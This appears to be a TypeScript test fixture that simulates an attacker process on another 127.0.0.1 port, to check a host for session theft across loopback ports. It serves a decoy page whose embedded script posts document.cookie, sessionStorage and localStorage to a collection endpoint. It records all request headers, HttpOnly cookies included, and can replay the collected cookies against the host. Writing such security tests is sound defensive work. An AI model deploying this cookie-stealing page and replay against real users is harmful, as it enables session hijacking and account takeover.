import http from 'node:http';
import type { AddressInfo } from 'node:net';

/**
 * Another process on another 127.0.0.1 port, as in the security issue's "session theft across loopback
 * ports": it serves a page, records every request the browser sends it (headers included, so HttpOnly
 * cookies too) and what the page could read itself, and can replay what it collected against the host
 * with any headers it likes (a process is not bound by the browser's rules).
 */
export interface Attacker {
  /** http://127.0.0.1:PORT/ of the attacker's page. */
  readonly url: string;
  /** Every request the browser sent to the attacker's server. */
  readonly seen: SeenRequest[];
  /** Every Cookie header value the browser sent along (deduplicated). */
  cookies(): string[];
  /** Resolves once the page has reported what it could read (document.cookie, storage). */
  reported(): Promise<void>;
  close(): Promise<void>;
}

export interface SeenRequest {
  method: string;
  path: string;
  headers: http.IncomingHttpHeaders;
  body: string;
}

const PAGE = `<!doctype html>
<html><head><meta charset="utf-8"><title>an innocent page</title></head><body>
<p>Nothing to see here.</p>
<script>
  // A same-origin fetch of its own: the browser attaches the cookies it holds for this host name.
  fetch('/collect', {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({
      cookie: document.cookie,
      sessionStorage: Object.entries(sessionStorage),
      localStorage: Object.entries(localStorage),
    }),
  });
</script>
</body></html>
`;

export async function startAttacker(): Promise<Attacker> {
  const seen: SeenRequest[] = [];
  let onReport: () => void = () => {};
  const report = new Promise<void>((resolve) => (onReport = resolve));
  const server = http.createServer((req, res) => {
    const chunks: Buffer[] = [];
    req.on('data', (c: Buffer) => chunks.push(c));
    req.on('end', () => {
      seen.push({ method: req.method ?? '', path: req.url ?? '', headers: req.headers, body: Buffer.concat(chunks).toString('utf8') });
      if (req.url === '/collect') {
        res.writeHead(204).end();
        onReport();
      } else if (req.url === '/') {
        res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(PAGE);
      } else {
        res.writeHead(404).end();
      }
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}/`,
    seen,
    cookies: () => [...new Set(seen.map((r) => r.headers.cookie).filter((c): c is string => !!c))],
    reported: () => report,
    close: () =>
      new Promise<void>((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };
}

export interface ReplayResponse {
  status: number;
  headers: http.IncomingHttpHeaders;
  body: string;
}

/** One request from the attacker's process to the host, with exactly these headers. */
export function replay(port: number, options: { method: string; path: string; headers: Record<string, string>; body?: string }): Promise<ReplayResponse> {
  return new Promise((resolve, reject) => {
    const req = http.request({ host: '127.0.0.1', port, method: options.method, path: options.path, headers: options.headers, agent: false }, (res) => {
      const chunks: Buffer[] = [];
      res.on('data', (c: Buffer) => chunks.push(c));
      res.on('end', () => resolve({ status: res.statusCode ?? 0, headers: res.headers, body: Buffer.concat(chunks).toString('utf8') }));
      res.on('error', reject);
    });
    req.on('error', reject);
    req.end(options.body);
  });
}
